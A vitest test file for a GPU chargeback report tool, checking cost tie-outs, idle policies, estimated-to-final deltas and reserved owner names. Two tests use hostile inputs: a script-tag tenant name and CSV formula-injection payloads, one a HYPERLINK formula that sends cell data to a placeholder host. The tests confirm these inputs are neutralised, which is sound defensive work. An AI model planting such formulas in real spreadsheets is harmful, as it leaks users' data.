/**
 * Chargeback packs on the real engine: the CSV ties out to pool_cost under
 * every idle policy and basis, spread matches cpp_daily plus the hours
 * without traffic, estimated -> final writes a delta, packs are immutable
 * and named per basis, reserved owner names stop a report, and no CSV cell
 * starts a formula.
 */
import { existsSync, readdirSync, readFileSync, renameSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { attributeWindow } from '../src/attribution/attribute.js';
import { configSchema, type Config } from '../src/config/config.js';
import { main, EXIT } from '../src/cli/main.js';
import { CHARGEBACK_COLUMNS } from '../src/report/csv-files.js';
import { ReportError } from '../src/report/chargeback.js';
import type { IdlePolicy } from '../src/report/idle-policy.js';
import { runChargebackReport } from '../src/report/run-report.js';
import { toScaled } from '../src/util/decimal.js';
import type { Warehouse } from '../src/warehouse/warehouse.js';
import { settings } from './helpers/attribution.js';
import { formatDateTime64, REQUEST_COLUMNS, serializeRequestRow } from '../src/events/request-event.js';
import { billingLine, DAY0, HOUR, insertBilling, insertRequests, type TestRequest } from './helpers/data.js';
import { tempDir } from './helpers/files.js';
import { discardWarehouse, freshWarehouse, TEST_DATA_DIR } from './helpers/warehouse.js';
import { parseMonth } from '../src/util/time.js';

let w: Warehouse;
let out: string;
beforeEach(async () => {
  w = await freshWarehouse();
  out = tempDir();
});
afterEach(async () => {
  await discardWarehouse(w);
});

const OCTOBER = parseMonth('2026-10') ?? (() => { throw new Error('month'); })();
const AFTER_OCTOBER = Date.UTC(2026, 11, 1);
const POLICIES: IdlePolicy[] = ['spread', 'separate', 'owner'];

function config(attribution: Partial<Config['attribution']> = {}): Config {
  return configSchema.parse({ attribution });
}

const csvRow = z.object(Object.fromEntries(CHARGEBACK_COLUMNS.map((c) => [c, z.string()])) as Record<(typeof CHARGEBACK_COLUMNS)[number], z.ZodString>);
type CsvRow = z.infer<typeof csvRow>;

function readCsv(path: string): CsvRow[] {
  const text = readFileSync(path, 'utf8');
  expect(text.split('\n')[0]).toBe(CHARGEBACK_COLUMNS.join(','));
  return z.array(csvRow).parse(parse(text, { columns: true }));
}

const units = (rows: readonly CsvRow[], pick: (r: CsvRow) => string = (r) => r.cost): bigint => rows.reduce((a, r) => a + toScaled(pick(r)), 0n);

async function billedOfMonth(currency = 'USD'): Promise<bigint> {
  const rows = await w.query(
    'SELECT toString(sum(billed_cost)) AS billed FROM pool_cost WHERE currency = {c:String} AND toStartOfMonth(period_start) = {m:Date}',
    { c: currency, m: '2026-10-01' },
    z.object({ billed: z.string() }),
  );
  return toScaled(rows[0]?.billed ?? '0');
}

/**
 * Two pools over four hours: gpu-a billed 10 an hour (effective; 12 billed),
 * traffic in hours 0-2 only, hour 3 all idle; gpu-b billed 4 with no traffic
 * all month; untagged storage 1.5. Teams search / chat, three tenants.
 */
async function seedMonth(): Promise<void> {
  const lines = [0, 1, 2, 3].map((h) => billingLine({ start: DAY0 + h * HOUR, effective_cost: '10', billed_cost: '12' }));
  lines.push(billingLine({ pool: 'gpu-b', start: DAY0, effective_cost: '4', billed_cost: '4' }));
  lines.push(billingLine({ pool: '', start: DAY0, hours: 24, effective_cost: '1.5', billed_cost: '1.5', consumed_unit: 'GB-Mo', instance_type: '' }));
  await insertBilling(w, lines);
  const requests: TestRequest[] = [];
  for (let h = 0; h < 3; h++) {
    requests.push({ id: `s${h}`, ts: DAY0 + h * HOUR + 10, team: 'search', tenant: 'acme', model: 'bge', feature: 'search', gpuMs: 600_000 + h * 1000, input: 100 });
    requests.push({ id: `c${h}`, ts: DAY0 + h * HOUR + 20, team: 'chat', tenant: 'globex', model: 'llama', feature: 'chat', gpuMs: 900_000, input: 1000, output: 200 });
    requests.push({ id: `d${h}`, ts: DAY0 + h * HOUR + 30, team: 'chat', tenant: 'initech', model: 'llama', feature: 'summarize', gpuMs: 333_333.333 });
  }
  await insertRequests(w, requests);
}

async function attribute(costBasis: 'effective' | 'billed' = 'effective'): Promise<void> {
  await attributeWindow(w, settings({ costBasis }), new Date(DAY0), new Date(DAY0 + 24 * HOUR));
}

describe('report chargeback', () => {
  it('ties out to the billed total of pool_cost exactly under every idle policy and both bases', async () => {
    await seedMonth();
    for (const basis of ['effective', 'billed'] as const) {
      await attribute(basis);
      const billed = await billedOfMonth();
      expect(billed).toBe(toScaled(basis === 'effective' ? '45.5' : '53.5'));
      for (const idle of POLICIES) {
        const dir = join(out, basis);
        const { pack, report } = await runChargebackReport(w, config({ pools: { 'gpu-a': { owner: 'platform' } } }), { month: OCTOBER, by: 'team', idle, basis, outDir: dir, now: AFTER_OCTOBER });
        expect(pack.written).toBe(true);
        expect(pack.dir).toBe(join(dir, '2026-10', `team-${idle}-${basis}-final`));
        const rows = readCsv(join(pack.dir, 'chargeback.csv'));
        expect(units(rows)).toBe(billed);
        // cost = used + idle on every line, as exact text.
        for (const r of rows) expect(toScaled(r.cost)).toBe(toScaled(r.used_cost) + toScaled(r.idle_cost));
        expect(rows.filter((r) => r.owner === '(unallocated)').map((r) => r.cost)).toEqual(['1.500000000000']);
        const summary = z.object({ reconciliation: z.array(z.object({ currency: z.string(), billed: z.string(), allocated: z.string(), idle: z.string(), unallocated: z.string(), ties_out: z.boolean() })), idle_policy: z.string(), cost_basis: z.string() })
          .parse(JSON.parse(readFileSync(join(pack.dir, 'summary.json'), 'utf8')));
        expect(summary).toMatchObject({ idle_policy: idle, cost_basis: basis });
        expect(summary.reconciliation).toHaveLength(1);
        const [rec] = summary.reconciliation;
        expect(rec?.ties_out).toBe(true);
        expect(toScaled(rec?.allocated ?? '') + toScaled(rec?.idle ?? '') + toScaled(rec?.unallocated ?? '')).toBe(billed);
        expect(report.status).toBe('final');
      }
    }
  });

  it('under spread, an owner carries its cpp_daily cost plus its share of the hours without traffic, and its billed requests', async () => {
    await seedMonth();
    await attribute();
    const { pack } = await runChargebackReport(w, config(), { month: OCTOBER, by: 'tenant', idle: 'spread', outDir: out, now: AFTER_OCTOBER });
    const rows = readCsv(join(pack.dir, 'chargeback.csv'));
    const fromCpp = await w.query(
      'SELECT tenant_id AS owner, toString(sum(cost)) AS cost, toString(sum(requests)) AS requests FROM cpp_daily GROUP BY tenant_id ORDER BY tenant_id',
      {},
      z.object({ owner: z.string(), cost: z.string(), requests: z.string() }),
    );
    expect(fromCpp.map((r) => r.owner)).toEqual(['acme', 'globex', 'initech']);
    // gpu-a's hour 3 (10) had no traffic; spread by each owner's attributed cost in the pool.
    const noTraffic = toScaled('10');
    const allocatedTotal = fromCpp.reduce((a, r) => a + toScaled(r.cost), 0n);
    let extras = 0n;
    for (const c of fromCpp) {
      const mine = rows.filter((r) => r.owner === c.owner);
      expect(String(mine.reduce((a, r) => a + BigInt(r.requests), 0n))).toBe(c.requests);
      const extra = units(mine) - toScaled(c.cost);
      const exact = (noTraffic * toScaled(c.cost)) / allocatedTotal;
      expect(extra - exact >= -1n && extra - exact <= 1n).toBe(true);
      extras += extra;
    }
    expect(extras).toBe(noTraffic);
    // gpu-b had no traffic all month: nobody to spread it over.
    expect(rows.filter((r) => r.owner === '(idle)').map((r) => r.cost)).toEqual(['4.000000000000']);
  });

  it('separate: owners carry used cost, idle is one line; owner: idle to the pool owner, unowned pools to (idle)', async () => {
    await seedMonth();
    await attribute();
    const separate = readCsv(join((await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'separate', outDir: out, now: AFTER_OCTOBER })).pack.dir, 'chargeback.csv'));
    const idleRows = separate.filter((r) => r.owner === '(idle)');
    expect(idleRows).toHaveLength(1);
    for (const r of separate.filter((x) => !x.owner.startsWith('('))) expect(r.idle_cost).toBe('0.000000000000');
    const poolIdle = await w.query("SELECT toString(sum(idle_cost)) AS idle FROM pool_cost WHERE pool_id != ''", {}, z.object({ idle: z.string() }));
    expect(toScaled(idleRows[0]?.cost ?? '')).toBe(toScaled(poolIdle[0]?.idle ?? 'x'));

    const run = await runChargebackReport(w, config({ pools: { 'gpu-a': { owner: 'platform' } } }), { month: OCTOBER, by: 'team', idle: 'owner', outDir: out, now: AFTER_OCTOBER });
    const owner = readCsv(join(run.pack.dir, 'chargeback.csv'));
    expect(owner.filter((r) => r.owner === 'platform').map((r) => [r.model_id, r.feature_id])).toEqual([['(idle)', 'gpu-a']]);
    expect(owner.filter((r) => r.owner === '(idle)').map((r) => r.cost)).toEqual(['4.000000000000']);
    const summary = z.object({ idle_fallbacks: z.array(z.object({ pool_id: z.string(), currency: z.string(), reason: z.string() })) }).parse(JSON.parse(readFileSync(join(run.pack.dir, 'summary.json'), 'utf8')));
    expect(summary.idle_fallbacks).toEqual([{ pool_id: 'gpu-b', currency: 'USD', reason: 'no owner configured (attribution.pools.gpu-b.owner)' }]);

    await expect(runChargebackReport(w, config(), { month: OCTOBER, by: 'tenant', idle: 'owner', outDir: out })).rejects.toThrow(/--idle owner .* not a tenant/);
  });

  it('refuses a basis the month was not attributed on, and a month with no data, writing nothing', async () => {
    await seedMonth();
    await attribute('effective');
    await expect(runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', basis: 'billed', outDir: out }))
      .rejects.toThrow(/matches the effective basis: the month was attributed with --cost-basis effective/);
    const november = parseMonth('2026-11');
    if (!november) throw new Error('month');
    const error = await runChargebackReport(w, config(), { month: november, by: 'team', idle: 'spread', outDir: out }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ReportError);
    expect((error as Error).message).toMatch(/no attributed billing for 2026-11 .*inferledger attribute --from 2026-11-01 --to 2026-12-01/);
    expect(readdirSync(out)).toEqual([]);
  });

  it('one request; a <script> tenant and non-ASCII names come through the CSV as they are', async () => {
    await insertBilling(w, [billingLine({ effective_cost: '3' })]);
    await insertRequests(w, [{ id: 'only', ts: DAY0 + 5, tenant: '<script>alert(1)</script>', team: 'Équipe "données", 東京', model: 'm,1', feature: 'f\n2', gpuMs: 360_000 }]);
    await attribute();
    for (const by of ['tenant', 'team'] as const) {
      const { pack } = await runChargebackReport(w, config(), { month: OCTOBER, by, idle: 'spread', outDir: out, now: AFTER_OCTOBER });
      const rows = readCsv(join(pack.dir, 'chargeback.csv'));
      expect(rows).toHaveLength(1);
      expect(rows[0]).toMatchObject({
        owner: by === 'tenant' ? '<script>alert(1)</script>' : 'Équipe "données", 東京', model_id: 'm,1', feature_id: 'f\n2',
        requests: '1', gpu_hours: '0.100000', used_cost: '0.300000000000', idle_cost: '2.700000000000', cost: '3.000000000000', cpp: '3.000000000000', cost_per_1k_tokens: '', currency: 'USD', status: 'final',
      });
    }
  });

  it('two currencies: separate totals, never added', async () => {
    await insertBilling(w, [billingLine({ effective_cost: '10' }), billingLine({ pool: 'gpu-eu', effective_cost: '7', billing_currency: 'EUR' })]);
    await insertRequests(w, [{ id: 'u', ts: DAY0 + 1, team: 'x' }, { id: 'e', ts: DAY0 + 2, pool: 'gpu-eu', team: 'x' }]);
    await attribute();
    const { pack } = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'separate', outDir: out, now: AFTER_OCTOBER });
    const rows = readCsv(join(pack.dir, 'chargeback.csv'));
    expect(units(rows.filter((r) => r.currency === 'USD'))).toBe(toScaled('10'));
    expect(units(rows.filter((r) => r.currency === 'EUR'))).toBe(toScaled('7'));
    const summary = z.object({ reconciliation: z.array(z.object({ currency: z.string(), billed: z.string() })) }).parse(JSON.parse(readFileSync(join(pack.dir, 'summary.json'), 'utf8')));
    expect(summary.reconciliation.map((r) => [r.currency, r.billed])).toEqual([['EUR', '7.000000000000'], ['USD', '10.000000000000']]);
  });

  it('estimated -> final: the estimated pack stays, the final one is written beside it with delta.csv', async () => {
    await insertBilling(w, [billingLine({ effective_cost: '10', is_estimated: true }), billingLine({ pool: '', effective_cost: '1', instance_type: '' })]);
    await insertRequests(w, [{ id: 'a', ts: DAY0 + 1, team: 'search' }, { id: 'b', ts: DAY0 + 2, team: 'chat', gpuMs: 300 }]);
    await attribute();
    const first = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', outDir: out, now: AFTER_OCTOBER });
    expect(first.report.status).toBe('estimated');
    expect(first.report.statusReasons.join(' ')).toMatch(/0\.909091 of the USD bill .* is still estimated/);
    expect(readCsv(join(first.pack.dir, 'chargeback.csv')).filter((r) => !r.owner.startsWith('(')).map((r) => r.status)).toEqual(['estimated', 'estimated']);
    // Built again while still estimated: the pack is left as it is.
    const again = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', outDir: out, now: AFTER_OCTOBER });
    expect(again.pack).toEqual({ dir: first.pack.dir, written: false, files: [] });

    // The final bill: 12 instead of 10.
    await insertBilling(w, [billingLine({ effective_cost: '12' }), billingLine({ pool: '', effective_cost: '1', instance_type: '' })]);
    await attribute();
    const final = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', outDir: out, now: AFTER_OCTOBER });
    expect(final.report.status).toBe('final');
    expect(final.pack.dir).toBe(join(out, '2026-10', 'team-spread-effective-final'));
    expect(final.pack.files).toContain('delta.csv');
    expect(existsSync(join(first.pack.dir, 'chargeback.csv'))).toBe(true);
    const delta = z.array(z.record(z.string(), z.string())).parse(parse(readFileSync(join(final.pack.dir, 'delta.csv'), 'utf8'), { columns: true }));
    expect(delta.map((d) => [d.owner, d.estimated_cost, d.final_cost, d.delta_cost])).toEqual([
      ['(unallocated)', '1.000000000000', '1.000000000000', '0.000000000000'],
      ['chat', '7.500000000000', '9.000000000000', '1.500000000000'],
      ['search', '2.500000000000', '3.000000000000', '0.500000000000'],
    ]);
    const deltaTotal = delta.reduce((a, d) => a + toScaled(d.delta_cost ?? '0'), 0n);
    expect(deltaTotal).toBe(toScaled('2'));
  });

  it('packs of the two bases sit side by side, each final pack with the delta against its own estimated pack', async () => {
    await insertBilling(w, [billingLine({ effective_cost: '10', billed_cost: '12', is_estimated: true })]);
    await insertRequests(w, [{ id: 'a', ts: DAY0 + 1, team: 'search' }, { id: 'b', ts: DAY0 + 2, team: 'chat', gpuMs: 300 }]);
    const build = async (basis: 'effective' | 'billed'): Promise<Awaited<ReturnType<typeof runChargebackReport>>> => {
      await attribute(basis);
      return runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', basis, outDir: out, now: AFTER_OCTOBER });
    };
    for (const basis of ['effective', 'billed'] as const) {
      const run = await build(basis);
      expect(run.report.status).toBe('estimated');
      expect(run.pack).toMatchObject({ dir: join(out, '2026-10', `team-spread-${basis}-estimated`), written: true });
    }
    // The final bill: effective 11, billed 15.
    await insertBilling(w, [billingLine({ effective_cost: '11', billed_cost: '15' })]);
    const want = {
      effective: [['chat', '7.500000000000', '8.250000000000', '0.750000000000'], ['search', '2.500000000000', '2.750000000000', '0.250000000000']],
      billed: [['chat', '9.000000000000', '11.250000000000', '2.250000000000'], ['search', '3.000000000000', '3.750000000000', '0.750000000000']],
    };
    for (const basis of ['effective', 'billed'] as const) {
      const run = await build(basis);
      expect(run.report.status).toBe('final');
      expect(run.pack.dir).toBe(join(out, '2026-10', `team-spread-${basis}-final`));
      expect(run.pack.files).toEqual(['chargeback.csv', 'delta.csv', 'focus-allocated.csv', 'report.html', 'summary.json']);
      const delta = z.array(z.record(z.string(), z.string())).parse(parse(readFileSync(join(run.pack.dir, 'delta.csv'), 'utf8'), { columns: true }));
      expect(delta.map((d) => [d.owner, d.estimated_cost, d.final_cost, d.delta_cost])).toEqual(want[basis]);
    }
    expect(readdirSync(join(out, '2026-10')).sort()).toEqual(['team-spread-billed-estimated', 'team-spread-billed-final', 'team-spread-effective-estimated', 'team-spread-effective-final']);
  });

  it('a final pack takes its delta from an estimated pack named without the basis, when its summary has the same basis', async () => {
    await insertBilling(w, [billingLine({ effective_cost: '10', billed_cost: '12', is_estimated: true })]);
    await insertRequests(w, [{ id: 'a', ts: DAY0 + 1, team: 'search' }, { id: 'b', ts: DAY0 + 2, team: 'chat', gpuMs: 300 }]);
    await attribute();
    const first = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', outDir: out, now: AFTER_OCTOBER });
    renameSync(first.pack.dir, join(out, '2026-10', 'team-spread-estimated'));
    await insertBilling(w, [billingLine({ effective_cost: '11', billed_cost: '15' })]);
    await attribute('billed');
    const billed = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', basis: 'billed', outDir: out, now: AFTER_OCTOBER });
    expect(billed.pack.files).not.toContain('delta.csv');
    await attribute('effective');
    const effective = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', basis: 'effective', outDir: out, now: AFTER_OCTOBER });
    const delta = z.array(z.record(z.string(), z.string())).parse(parse(readFileSync(join(effective.pack.dir, 'delta.csv'), 'utf8'), { columns: true }));
    expect(delta.map((d) => [d.owner, d.estimated_cost, d.final_cost])).toEqual([['chat', '7.500000000000', '8.250000000000'], ['search', '2.500000000000', '2.750000000000']]);
  });

  it('stops, writing nothing, when a team or tenant stored before names were checked is a reserved owner name', async () => {
    await insertBilling(w, [billingLine({ effective_cost: '10' })]);
    await insertRequests(w, [{ id: 'ok', ts: DAY0 + 1, team: 'search', tenant: 'acme' }]);
    // Written straight to the table, as events ingested before the rule were.
    const raw = [
      { request_id: 'r1', team: '(idle)', tenant_id: 'acme' },
      { request_id: 'r2', team: 'chat', tenant_id: ' (Unallocated) ' },
    ].map((r, i) => serializeRequestRow(
      { ...r, ts: DAY0 + 10 + i, model_id: 'm1', feature_id: 'f1', pool_id: 'gpu-a', gpu_ms: 100, input_tokens: 0, output_tokens: 0, status: 'ok' },
      {}, 'test', formatDateTime64(Date.now()),
    ));
    await w.insertCompact('inference_requests', REQUEST_COLUMNS, `${raw.join('\n')}\n`);
    await attribute();
    const team = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'separate', outDir: out, now: AFTER_OCTOBER }).catch((e: unknown) => e);
    expect(team).toBeInstanceOf(ReportError);
    expect((team as Error).message).toBe(
      'team "(idle)" (1 request in 2026-10) is a reserved owner name: "(idle)" and "(unallocated)", in any case or spacing, name the idle and untagged lines of the report. ' +
        'Rename it in the stored requests (`inferledger sql --write "ALTER TABLE inference_requests UPDATE team = {to:String} WHERE team = {from:String} SETTINGS mutations_sync = 2" ' +
        '--param from=<name> --param to=<new name>`), then `inferledger attribute --from 2026-10-01 --to 2026-11-01`; nothing was written',
    );
    const tenant = await runChargebackReport(w, config(), { month: OCTOBER, by: 'tenant', idle: 'separate', outDir: out, now: AFTER_OCTOBER }).catch((e: unknown) => e);
    expect(tenant).toBeInstanceOf(ReportError);
    expect((tenant as Error).message).toMatch(/^tenant_id " \(Unallocated\) " \(1 request in 2026-10\) is a reserved owner name/);
    expect(readdirSync(out)).toEqual([]);

    // The way out the message gives.
    const lines: string[] = [];
    const io = { out: (l: string) => lines.push(l), err: (l: string) => lines.push(l), env: { INFERLEDGER_DATA_DIR: TEST_DATA_DIR, CLICKHOUSE_DATABASE: w.database } };
    const rename = 'ALTER TABLE inference_requests UPDATE team = {to:String} WHERE team = {from:String} SETTINGS mutations_sync = 2';
    expect(await main(['sql', '--write', rename, '--param', 'from=(idle)', '--param', 'to=platform'], io)).toBe(EXIT.ok);
    await attribute();
    const { pack } = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'separate', outDir: out, now: AFTER_OCTOBER });
    expect(readCsv(join(pack.dir, 'chargeback.csv')).map((r) => [r.owner, r.requests])).toEqual([['chat', '1'], ['platform', '1'], ['search', '1'], ['(idle)', '0']]);
  });

  it('neutralises formulas in every text cell of the CSV files and leaves numbers, negative ones too, as they are', async () => {
    const link = '=HYPERLINK("http://x.example/?d="&A1,"click")';
    // Estimated: gpu-a 10 and an untagged credit of -1.5; final: gpu-a 8.
    await insertBilling(w, [billingLine({ pool: '@pool', effective_cost: '10', is_estimated: true }), billingLine({ pool: '', effective_cost: '-1.5', charge_category: 'Credit', instance_type: '' })]);
    await insertRequests(w, [
      { id: 'a', ts: DAY0 + 1, pool: '@pool', team: link, tenant: '\t=1+1', model: '+1', feature: '@SUM(A1)', version: '-rc1', gpuMs: 100 },
      { id: 'b', ts: DAY0 + 2, pool: '@pool', team: '-2+3', tenant: "'=kept", model: 'm', feature: 'f', gpuMs: 300 },
    ]);
    await attribute();
    const estimated = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', outDir: out, now: AFTER_OCTOBER });
    expect(estimated.report.status).toBe('estimated');
    await insertBilling(w, [billingLine({ pool: '@pool', effective_cost: '8' }), billingLine({ pool: '', effective_cost: '-1.5', charge_category: 'Credit', instance_type: '' })]);
    await attribute();
    const { pack } = await runChargebackReport(w, config(), { month: OCTOBER, by: 'team', idle: 'spread', outDir: out, now: AFTER_OCTOBER });
    expect(pack.files).toContain('delta.csv');

    const text = readFileSync(join(pack.dir, 'chargeback.csv'), 'utf8');
    expect(text).toContain(`2026-10,"'=HYPERLINK(""http://x.example/?d=""&A1,""click"")",'+1,'@SUM(A1),1,0,0,`);
    expect(readCsv(join(pack.dir, 'chargeback.csv')).map((r) => [r.owner, r.model_id, r.feature_id, r.requests, r.cost, r.cpp])).toEqual([
      ["'-2+3", 'm', 'f', '1', '6.000000000000', '6.000000000000'],
      [`'${link}`, "'+1", "'@SUM(A1)", '1', '2.000000000000', '2.000000000000'],
      ['(unallocated)', '', '', '0', '-1.500000000000', ''],
    ]);

    const delta = z.array(z.record(z.string(), z.string())).parse(parse(readFileSync(join(pack.dir, 'delta.csv'), 'utf8'), { columns: true }));
    expect(delta.map((d) => [d.owner, d.model_id, d.feature_id, d.estimated_cost, d.final_cost, d.delta_cost])).toEqual([
      ["'-2+3", 'm', 'f', '7.500000000000', '6.000000000000', '-1.500000000000'],
      [`'${link}`, "'+1", "'@SUM(A1)", '2.500000000000', '2.000000000000', '-0.500000000000'],
      ['(unallocated)', '', '', '-1.500000000000', '-1.500000000000', '0.000000000000'],
    ]);

    const focus = z.array(z.record(z.string(), z.string())).parse(parse(readFileSync(join(pack.dir, 'focus-allocated.csv'), 'utf8'), { columns: true }));
    const used = focus.filter((r) => r.AllocatedMethodId === 'inferledger-gpu-time-used');
    expect(used.map((r) => [r.ResourceId, r.AllocatedResourceId, r.x_ModelVersion, r.x_Requests])).toEqual([
      ["'@pool", "'@pool/m//f/'=kept", '', '1'],
      ["'@pool", "'@pool/+1/-rc1/@SUM(A1)/\t=1+1", "'-rc1", '1'],
    ]);
    expect(focus.filter((r) => r.AllocatedMethodId === '').map((r) => r.EffectiveCost)).toEqual(['-1.500000000000']);
    expect(focus.reduce((a, r) => a + toScaled(r.EffectiveCost ?? ''), 0n)).toBe(toScaled('6.5'));
    // No cell of any file starts a formula.
    for (const file of ['chargeback.csv', 'delta.csv', 'focus-allocated.csv']) {
      const cells = z.array(z.array(z.string())).parse(parse(readFileSync(join(pack.dir, file), 'utf8')));
      for (const cell of cells.flat()) expect(/^[=+@\t\r]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell), `${file}: ${JSON.stringify(cell)}`).toBe(false);
    }

    const byTenant = await runChargebackReport(w, config(), { month: OCTOBER, by: 'tenant', idle: 'separate', outDir: out, now: AFTER_OCTOBER });
    expect(readCsv(join(byTenant.pack.dir, 'chargeback.csv')).map((r) => r.owner)).toEqual(["'\t=1+1", "'=kept", '(idle)', '(unallocated)']);
  });

  it('the CLI writes the pack and says where; a bad month is a usage error', async () => {
    await seedMonth();
    await attribute();
    const lines: string[] = [];
    const io = { out: (l: string) => lines.push(l), err: (l: string) => lines.push(l), env: { INFERLEDGER_DATA_DIR: TEST_DATA_DIR, CLICKHOUSE_DATABASE: w.database } };
    expect(await main(['report', 'chargeback', '--month', '2026-10', '--by', 'team', '--out', out], io)).toBe(EXIT.ok);
    expect(lines.join('\n')).toContain(`pack written to ${join(out, '2026-10', 'team-spread-effective-')}`);
    expect(lines.join('\n')).toMatch(/USD: billed 45\.500000000000 = allocated 40\.000000000000 \+ idle 4\.000000000000 \+ unallocated 1\.500000000000/);
    expect(await main(['report', 'chargeback', '--month', '2026-13', '--by', 'team'], io)).toBe(EXIT.usage);
  });
});
